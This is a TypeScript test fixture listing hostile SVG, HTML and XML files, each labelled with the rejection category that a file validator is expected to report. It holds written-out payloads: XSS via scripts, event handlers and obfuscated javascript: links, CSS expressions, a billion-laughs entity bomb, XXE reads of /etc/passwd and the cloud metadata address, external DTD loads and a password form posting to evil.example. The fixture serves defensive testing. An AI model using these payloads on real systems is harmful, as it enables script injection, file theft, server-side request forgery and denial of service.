import { allAs, type Hostile } from './hostile-file.ts'

const svgNamespace = 'xmlns="http://www.w3.org/2000/svg"'
const svg = (content: string, attributes = ''): string => `<svg ${svgNamespace} ${attributes}>${content}</svg>`
const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n === 0 ? '' : n};`.repeat(10)}">`).join('')}]><lolz>&lol9;</lolz>`

const svgs: readonly Hostile[] = [
  ['runs a script', svg('<script>alert(1)</script>'), 'markup-active'],
  [
    'runs a script of another prefix',
    `<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>`,
    'markup-active',
  ],
  ['runs when it is loaded', svg('', 'onload="alert(1)"'), 'markup-active'],
  ['runs when it is loaded, in capitals', svg('', 'ONLOAD="alert(1)"'), 'markup-active'],
  ['runs when a link is followed', svg('<a href="javascript:alert(1)"><text>x</text></a>'), 'markup-active'],
  [
    'runs when a link is followed, written out',
    svg('<a href="java&#x73;cript&#58;alert(1)"><text>x</text></a>'),
    'markup-active',
  ],
  [
    'runs when a link is followed, with a line end inside',
    svg('<a xlink:href="java&#10;script:alert(1)"><text>x</text></a>'),
    'markup-active',
  ],
  [
    'makes a link dangerous later',
    svg('<a><animate attributeName="href" values="javascript:alert(1)"/></a>'),
    'markup-active',
  ],
  ['sets a link later', svg('<a><set attributeName="xlink:href" to="x"/></a>'), 'markup-active'],
  [
    'has a frame',
    svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="x"/></foreignObject>'),
    'markup-active',
  ],
  ['has a document of its own in an address', svg('<use href="data:image/svg+xml,&lt;svg/>"/>'), 'markup-active'],
  ['loads a picture', svg('<image href="http://evil.example/1.png"/>'), 'markup-external'],
  ['loads a picture from the same protocol', svg('<image xlink:href="//evil.example/1.png"/>'), 'markup-external'],
  ['loads a style', svg('<style>@import "http://evil.example/a.css";</style>'), 'markup-external'],
  ['loads a background', svg('<rect style="background:url(http://evil.example)"/>'), 'markup-external'],
  [
    'has a style sheet that transforms it',
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="a.xsl"?>${svg('')}`,
    'markup-active',
  ],
  [
    'declares an entity of a file',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
    'markup-entity',
  ],
  [
    'loads its definition',
    `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">${svg('')}`,
    'markup-doctype',
  ],
  ['is written in UTF-7', `<?xml version="1.0" encoding="UTF-7"?>${svg('')}`, 'markup-encoding'],
  [
    'is written in UTF-16 and runs',
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(svg('', 'onload="alert(1)"'), 'utf16le')]),
    'markup-active',
  ],
  ['is a page', '<!doctype html><p>x</p>', 'type-differs'],
  ['has elements in one another without end', svg('<g>'.repeat(2_000)), 'content-beyond-limit'],
]
const pages: readonly Hostile[] = [
  ['runs a script', '<!doctype html><script src="x.js"></script>', 'markup-active'],
  ['runs a script that is never closed', '<!doctype html><p>x</p><script>', 'markup-active'],
  ['runs when a picture fails', '<html><img src=x onerror=alert(1)></html>', 'markup-active'],
  ['runs after a quote', `<html><a title="'x'"onclick=alert(1)>x</a></html>`, 'markup-active'],
  [
    'runs from where only old browsers look',
    '<html><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript></html>',
    'markup-active',
  ],
  [
    'runs from a comment of old browsers',
    '<html><!--[if IE]><script>alert(1)</script><![endif]--></html>',
    'markup-active',
  ],
  ['goes elsewhere', '<html><meta http-equiv="refresh" content="0;url=http://evil.example"></html>', 'markup-active'],
  ['changes where its addresses are', '<html><base href="http://evil.example/"></html>', 'markup-active'],
  ['has a frame', '<html><iframe src="http://evil.example"></iframe></html>', 'markup-active'],
  ['has an object', '<html><object data="x.swf"></object></html>', 'markup-active'],
  ['has an embedded program', '<html><embed src="x.swf"></html>', 'markup-active'],
  [
    'asks for passwords',
    '<html><form action="http://evil.example"><input name="password"></form></html>',
    'markup-active',
  ],
  ['tells who reads it', '<html><img src="https://evil.example/1.gif"></html>', 'markup-external'],
  ['loads a style', '<html><link rel="stylesheet" href="//evil.example/a.css"></html>', 'markup-external'],
  ['hides an expression in a style', '<html><p style="width:expr/**/ession(alert(1))">x</p></html>', 'markup-active'],
  [
    'writes an expression out in a style',
    String.raw`<html><style>p{width:\65xpression(alert(1))}</style></html>`,
    'markup-active',
  ],
  [
    'has a document in an address',
    '<html><a href="data:text/html,<script>alert(1)</script>">x</a></html>',
    'markup-active',
  ],
]
const xmls: readonly Hostile[] = [
  ['laughs a billion times', laughs, 'markup-entity'],
  [
    'multiplies one long entity',
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${'a'.repeat(10_000)}">]><x>${'&a;'.repeat(1_000)}</x>`,
    'markup-entity',
  ],
  [
    'reads a file',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>',
    'markup-entity',
  ],
  [
    'asks another server',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "http://169.254.169.254/">]><x>&f;</x>',
    'markup-entity',
  ],
  [
    'has an entity of parameters',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>',
    'markup-entity',
  ],
  [
    'loads its definition',
    '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    'markup-doctype',
  ],
  [
    'loads its definition without a prolog',
    '<!DOCTYPE x PUBLIC "-//X//X//EN" "http://evil.example/x.dtd"><x/>',
    'markup-doctype',
  ],
  [
    'runs a script of a page',
    '<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>',
    'markup-active',
  ],
  [
    'runs on an element of a page',
    '<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:body onload="alert(1)"/></x>',
    'markup-active',
  ],
  ['transforms itself', '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x/>', 'markup-active'],
  ['is written in an encoding that hides', '<?xml version="1.0" encoding="x-user-defined"?><x/>', 'markup-encoding'],
]

export const hostileMarkup = [
  ...allAs('figure.svg', 'image/svg+xml', svgs),
  ...allAs('report.html', 'text/html', pages),
  ...allAs('results.xml', 'application/xml', xmls),
]
